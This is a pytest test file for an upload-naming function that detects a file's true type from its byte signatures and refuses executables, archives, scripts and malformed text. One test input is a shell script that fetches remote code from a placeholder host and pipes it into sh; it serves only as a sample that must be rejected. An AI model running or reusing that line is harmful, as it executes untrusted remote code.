"""The name a customer's file is uploaded under: its true type from its bytes (the scanner's sniffer),
whatever the name or the declared type says."""

import io
import zipfile

import pytest

from chalicelib.messaging.connect import upload_type as naming
from chalicelib.scanning import filetypes
from tests.scanning import files


def sniff(data: bytes):
    return naming.upload_type(io.BytesIO(data))


def _zip(*names):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in names:
            archive.writestr(name, "<x/>")
    return buffer.getvalue()


def test_images_documents_and_media_by_signature():
    assert sniff(b"\xff\xd8\xff\xe0" + b"\0" * 20) == naming.JPEG
    assert sniff(b"\x89PNG\r\n\x1a\n" + b"\0" * 20) == naming.PNG
    assert sniff(b"%PDF-1.7\n...") == naming.PDF
    assert sniff(b"{\\rtf1\\ansi hello}") == naming.RTF
    assert sniff(b"RIFF\x24\x00\x00\x00WAVEfmt ") == naming.WAV
    assert sniff(b"\x00\x00\x00\x18ftypmp42\x00\x00") == naming.MP4
    assert sniff(b"\x00\x00\x00\x18ftypM4A \x00\x00") == naming.MP4_AUDIO
    assert sniff(b"\x00\x00\x00\x14ftypqt  \x00\x00") == naming.MOV
    assert sniff(b"\x00\x00\x00\x18ftypheic\x00\x00") == naming.HEIC


def test_office_open_xml_by_its_parts_and_plain_zips_refused():
    assert sniff(_zip("[Content_Types].xml", "word/document.xml")) == naming.DOCX
    assert sniff(_zip("[Content_Types].xml", "xl/workbook.xml")) == naming.XLSX
    assert sniff(_zip("[Content_Types].xml", "ppt/presentation.xml")) == naming.PPTX
    assert sniff(_zip("payload.exe")) is None
    assert sniff(b"PK\x03\x04 truncated") is None


def test_legacy_office_by_its_main_stream_name_anywhere_in_the_file():
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    far = b"\x01" * (1024 * 1024 + 5)  # the directory lies past the first chunk
    assert sniff(header + far + "WordDocument".encode("utf-16-le")) == naming.DOC
    assert sniff(header + "Workbook".encode("utf-16-le")) == naming.XLS
    assert sniff(header + "PowerPoint Document".encode("utf-16-le")) == naming.PPT
    assert sniff(header) is None


def test_text_and_binary_junk():
    assert sniff("name,amount\nJane,5 €\n".encode()) == naming.TXT
    assert sniff(b"GIF89a\x01\x00\x01\x00\x00\xff") is None  # GIF: not on Connect's list
    assert sniff(b"MZ\x90\x00\x03\x00\x00\x00") is None  # a Windows executable
    assert sniff(b"") is None


def test_what_the_scanner_would_reject_by_type_is_refused_early():
    assert sniff(b"#!/bin/sh\ncurl evil | sh\n") is None  # text, but a script to the scanner
    assert sniff(b"\x1f\x8b\x08\x00" + b"\0" * 20) is None  # gzip
    assert sniff(b"\x00\x00\x00\x18ftypXXXX\x00\x00") is None  # an ISO brand no player promises to open
    assert sniff(b"plain\x07text") is None  # a control byte text never holds


def test_text_in_the_encodings_the_scanner_accepts():
    assert sniff("Café; 12,50 €".encode("cp1252")) == naming.TXT
    assert sniff(b"\xff\xfe" + "héllo\r\n".encode("utf-16-le")) == naming.TXT


def test_position_is_left_at_the_start():
    file = io.BytesIO(b"%PDF-1.4 body")
    file.seek(5)
    naming.upload_type(file)
    assert file.tell() == 0


@pytest.mark.parametrize("extension", sorted(files.SAMPLES))
def test_every_name_given_is_one_the_scanner_accepts_for_those_bytes(extension):
    data = files.SAMPLES[extension]()
    named = sniff(data)
    assert named is not None
    assert filetypes.sniff(data[:8192]) in filetypes.EXTENSION_KINDS[named.extension]
    if extension not in ("csv", "jpeg", "jfif"):  # named by their canonical extension: txt, jpg
        assert named.extension == extension
